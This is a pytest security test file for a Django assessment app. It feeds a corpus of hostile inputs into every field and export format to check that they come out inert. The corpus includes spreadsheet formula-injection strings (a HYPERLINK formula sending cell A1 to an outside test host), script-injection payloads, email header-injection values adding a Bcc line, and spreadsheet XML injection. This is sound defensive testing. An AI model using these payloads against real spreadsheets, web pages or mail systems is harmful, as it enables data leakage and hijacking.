"""A corpus of hostile texts through every free-text field into every format we produce.

Formula starters behind every control character, behind spaces, a byte order mark and
zero-width characters; fullwidth look-alikes; HTML and script; CRLF; NUL; very long strings.
They go into HTML pages (escaped), the PDF (text only), CSV, XLSX and SPSS files (no cell a
spreadsheet would run) and the invitation e-mail (no header injection). The checks here are
written independently of partnerscan/core/cells.py, so a slip there fails here.

One organisation carries the corpus in all its fields and each format is rendered once; the
writers themselves get every payload of the corpus in every format.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any

import pyreadstat
import pytest
from django.core.mail import EmailMessage
from openpyxl import load_workbook
from support import PASSWORD, logged_in, require

from partnerscan.accounts import domain as accounts_domain
from partnerscan.accounts.models import Organisation, User
from partnerscan.assessments import domain, mailtexts
from partnerscan.assessments.management.commands.send_invitations import invitation_mail
from partnerscan.assessments.models import Answer, Assessment, Invitation, Response
from partnerscan.core.files import file_response
from partnerscan.core.languages import LANGUAGES
from partnerscan.core.tables import Column, Table
from partnerscan.plans import domain as plans
from partnerscan.pool import research_tables

STARTERS = ("=", "+", "-", "@", "\t", "\r")
BODY = 'HYPERLINK("http://x.test/?"&A1,"click")'
INVISIBLE = (" ", "   ", "\u00a0", "\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", "\u3000")
BEHIND = (*(chr(code) for code in range(0x20)), "\x7f", *INVISIBLE, "\x01 \ufeff")
LOOKALIKES = ("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "⁼1+1", "\u200b＝1+1")
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</textarea><script>alert(2)</script>",
    "javascript:alert(1)",
)
CRLF = ("name\r\nBcc: evil@example.com", "name\nSubject: hijacked", "\r\n=1+1", "a\rb")
NUL = ("a\x00b", "\x00=1+1")
LONG = ("=" + "A" * 5000 + "()", "x" * 10000, "<b>" * 2000)
# Spreadsheet XML inside a text: rich-text runs around a formula element, and Excel's escape
# of "=" (a workbook writer must write all of them as the text they are).
MARKUP = (
    "<r><t>x</t></r></is><f>1+1</f><is><r><t>y</t></r>",
    "<r><t>=1+1</t></r>",
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "_x003D_1+1",
)


def corpus() -> list[str]:
    payloads = [f"{before}{start}{BODY}" for before in BEHIND for start in STARTERS]
    return payloads + [*LOOKALIKES, *HTML, *CRLF, *NUL, *LONG, *MARKUP]


CORPUS = corpus()
# PostgreSQL cannot store NUL in text and Django's form fields refuse it, so NUL never reaches
# a stored field; the writers below still get it.
STORABLE = [p for p in CORPUS if "\x00" not in p]
SHORT = list(dict.fromkeys(p for p in STORABLE if len(p) <= 100))
MARKUP = ("<script>alert", "<img src=x", "<svg onload", "</textarea><script>")


def live(cell: Any) -> bool:
    """Whether a spreadsheet could run the cell: after leading controls, spaces and format
    characters, a formula character or a look-alike of one. A number is data."""
    if not isinstance(cell, str) or cell.startswith("'"):
        return False
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    try:
        float(cell)
        return False
    except ValueError:
        pass
    visible = [ch for ch in cell if not (ch.isspace() or unicodedata.category(ch)[0] in "CZ")]
    first = unicodedata.normalize("NFKC", visible[0]) if visible else ""
    return first[:1] in ("=", "+", "-", "@")


def body(response: Any) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.getvalue() if hasattr(response, "getvalue") else response.content)


def cells_of(data: bytes, fmt: str, tmp_path: Path) -> list[Any]:
    """Every cell of a file, headers and SPSS labels included."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row]
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).active
        found = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in found if c.data_type == "f"] == []
        return [c.value for c in found]
    path = tmp_path / "file.sav"
    path.write_bytes(data)
    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    labels = [text for values in meta.variable_value_labels.values() for text in values.values()]
    return [*frame.to_numpy().ravel().tolist(), *meta.column_labels, *labels]


def written(table: Table, fmt: str) -> bytes:
    return body(file_response(table, fmt))


# --- the writers, every payload -----------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "sav"])
def test_every_payload_is_inert_in_every_spreadsheet_format(fmt: str, tmp_path: Path) -> None:
    columns = (
        Column("text", CORPUS[0], "text"),
        Column("level", CORPUS[1], "level"),
        *(Column(f"v{i}", payload, "text") for i, payload in enumerate(CORPUS[:40])),
    )
    rows = [[payload, 1, *CORPUS[:40]] for payload in CORPUS]
    table = Table(CORPUS[2], columns, iter(rows), level_names=tuple(CORPUS[3:8]))
    cells = cells_of(written(table, fmt), fmt, tmp_path)
    assert [cell for cell in cells if live(cell)] == []
    texts = [c for c in cells if isinstance(c, str) and c.lstrip("'").endswith(BODY)]
    assert len(texts) >= len(STARTERS) * len(BEHIND)  # every payload arrived, inert


# --- one organisation with the corpus in every field ---------------------------------------------


@dataclass
class Hostile:
    owner: User
    organisation: Organisation
    assessment: Assessment


ORG_NAME = "\x01=SECTOR()+1 <script>alert(1)</script>"
# The sector is chosen from a fixed list (an id), so it carries no free text any more.
SECTOR = "healthcare"
TITLE = '\ufeff=HYPERLINK("http://x.test")<img src=x onerror=alert(1)>'
ROLE = "\u200b=1+1<b>r</b>"  # a role only an import could set
GROUP = "\t@SUM(1)"


def _answers(responses: list[Response], aspects: list[str]) -> Iterator[Answer]:
    for i, response in enumerate(responses):
        for j, aspect in enumerate(aspects):
            comment = STORABLE[(i * len(aspects) + j) % len(STORABLE)] if i % 7 == 0 else ""
            yield Answer(
                response=response,
                aspect=aspect,
                current=(i + j) % 5 + 1,
                ambition=5,
                comment=comment,
            )


@pytest.fixture
def hostile(db: None) -> Hostile:
    owner = User.objects.create_user("owner@example.org", PASSWORD, name=ORG_NAME)
    organisation = accounts_domain.create_organisation(owner, ORG_NAME, sector=SECTOR, size="small")
    Organisation.objects.filter(pk=organisation.pk).update(pool_named=True)
    assessment = domain.create_assessment(
        organisation, owner, title=TITLE, goal="\n".join(STORABLE), min_group=3, departments=SHORT
    )
    # Three respondents per department, so every department is a group that may be shown.
    groups = [("staff", department, "internal") for department in SHORT for _i in range(3)]
    groups += [(ROLE, "Plain", GROUP)] * 3
    responses = Response.objects.bulk_create(
        Response(
            assessment=assessment,
            submitted=True,
            imported=True,
            label=f"{i}{SHORT[i % len(SHORT)]}"[:100],
            role=role,
            department=department,
            group=group,
        )
        for i, (role, department, group) in enumerate(groups)
    )
    aspects = [a.id for a in assessment.capability_model.aspects]
    Answer.objects.bulk_create(_answers(responses, aspects))
    for payload in [*HTML, *CRLF[:2], LONG[2], SHORT[0]]:
        plans.create_action(
            assessment, owner, aspect="goals", description=payload, owner=payload[:150]
        )
    Assessment.objects.filter(pk=assessment.pk).update(in_pool=True)
    hostile_words = {"sender": HTML[2], "subject": HTML[3], "greeting": HTML[1]}
    hostile_words["text"] = "\n".join([*HTML, *CRLF, "{link}"])
    texts = {lang: mailtexts.DEFAULTS[lang] | hostile_words for lang in LANGUAGES}
    domain.set_mail_texts(assessment, texts, by=owner)
    assessment = domain.close_assessment(Assessment.objects.get(pk=assessment.pk), owner)
    return Hostile(owner, Organisation.objects.get(pk=organisation.pk), assessment)


def test_html_pages_escape_every_payload(hostile: Hostile) -> None:
    client = logged_in(hostile.owner)
    a, o = hostile.assessment.pk, hostile.organisation.pk
    paths = [
        f"/orgs/{o}/",
        f"/orgs/{o}/audit/",
        f"/assessments/{a}/",
        f"/assessments/{a}/dashboard/",
        f"/assessments/{a}/actions/",
        f"/assessments/{a}/invitations/",
        f"/assessments/{a}/edit/",
        f"/assessments/{a}/invitations/texts/",
    ]
    pages = {path: client.get(path) for path in paths}
    assert {path: page.status_code for path, page in pages.items()} == dict.fromkeys(paths, 200)
    found = {
        path: [m for m in MARKUP if m in page.content.decode()] for path, page in pages.items()
    }
    assert found == dict.fromkeys(paths, [])
    dashboard = pages[f"/assessments/{a}/dashboard/"].content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dashboard  # the name, comments, plan


def test_the_pdf_holds_the_payloads_as_text_only(hostile: Hostile) -> None:
    client = logged_in(hostile.owner)
    data = client.get(f"/assessments/{hostile.assessment.pk}/report.pdf?lang=en").content
    assert data.startswith(b"%PDF")
    active = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/SubmitForm")
    assert [key for key in active if key in data] == []
    assert b"javascript" not in data.lower()  # not as a link, nor anywhere else
    text = _pdf_text(data)
    assert "<script>alert(1)</script>" in text  # shown as the text it is


def _pdf_text(data: bytes) -> str:
    import subprocess

    done = subprocess.run(
        [require("pdftotext"), "-layout", "-", "-"], input=data, capture_output=True, check=True
    )
    return done.stdout.decode()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "sav"])
def test_no_export_holds_a_cell_a_spreadsheet_would_run(
    hostile: Hostile, fmt: str, tmp_path: Path
) -> None:
    client = logged_in(hostile.owner)
    base = f"/assessments/{hostile.assessment.pk}/export"
    files = {kind: body(client.get(f"{base}/{kind}.{fmt}")) for kind in ("responses", "results")}
    files["research pool"] = written(
        research_tables.pool_table(hostile.assessment.model_ref, "en"), fmt
    )
    cells = {kind: cells_of(data, fmt, tmp_path) for kind, data in files.items()}
    assert {kind: [c for c in found if live(c)] for kind, found in cells.items()} == {
        kind: [] for kind in files
    }
    everything = [c for found in cells.values() for c in found if isinstance(c, str)]
    shown = {"'" + ORG_NAME.lstrip("\x01"), "'" + TITLE}
    assert shown <= set(everything)  # the fields arrived, quoted, not dropped
    assert len([c for c in cells["responses"] if isinstance(c, str) and BODY in c]) >= len(
        STARTERS
    ) * len(BEHIND) - len(BEHIND)  # the departments, pooled in no "other"


# --- e-mail -------------------------------------------------------------------------------------

HEADERS = {"Content-Type", "Content-Transfer-Encoding", "MIME-Version", "Subject", "From", "To"}


@pytest.mark.parametrize("payload", CORPUS, ids=[f"p{i}" for i in range(len(CORPUS))])
def test_the_invitation_mail_carries_no_injected_header(payload: str) -> None:
    organisation = Organisation(name=payload)
    assessment = Assessment(organisation=organisation, title=payload, min_group=5)
    invitation = Invitation(assessment=assessment, email="r@example.org", language="en")
    subject, text = invitation_mail(invitation, "token123")
    # Built as the worker's send_mail builds it; a BadHeaderError here would stop the mail.
    raw = EmailMessage(subject, text, "from@example.org", ["r@example.org"]).message()
    parsed = message_from_bytes(raw.as_bytes(), policy=policy.default)  # unfolded, decoded
    names = {name for name in parsed if name not in ("Date", "Message-ID")}
    assert names == HEADERS
    assert "\n" not in str(parsed["Subject"]) and "\r" not in str(parsed["Subject"])
    assert parsed.get_all("To") == ["r@example.org"] and parsed.get("Bcc") is None


@pytest.mark.parametrize("payload", CORPUS, ids=[f"p{i}" for i in range(len(CORPUS))])
def test_the_editable_sender_subject_and_greeting_inject_no_header(payload: str) -> None:
    organisation = Organisation(name="Org")
    words = {"sender": payload, "subject": payload, "greeting": payload, "text": payload + "{link}"}
    assessment = Assessment(organisation=organisation, title="T", mail_texts={"en": words})
    sent = mailtexts.render(assessment, "en", "invitation", "https://x.test/r/token123/")
    raw = EmailMessage(sent.subject, sent.body, sent.sender, ["r@example.org"]).message()
    parsed = message_from_bytes(raw.as_bytes(), policy=policy.default)
    names = {name for name in parsed if name not in ("Date", "Message-ID")}
    assert names == HEADERS
    for header in ("Subject", "From"):
        assert "\n" not in str(parsed[header]) and "\r" not in str(parsed[header])
    assert parsed.get_all("To") == ["r@example.org"] and parsed.get("Bcc") is None


def test_the_corpus_covers_every_control_character_and_starter() -> None:
    firsts = {(p[0], p[1]) for p in CORPUS if len(p) > 1 and p.endswith(BODY)}
    wanted = {(chr(c), s) for c in [*range(0x20), 0x7F] for s in STARTERS}
    assert wanted <= firsts
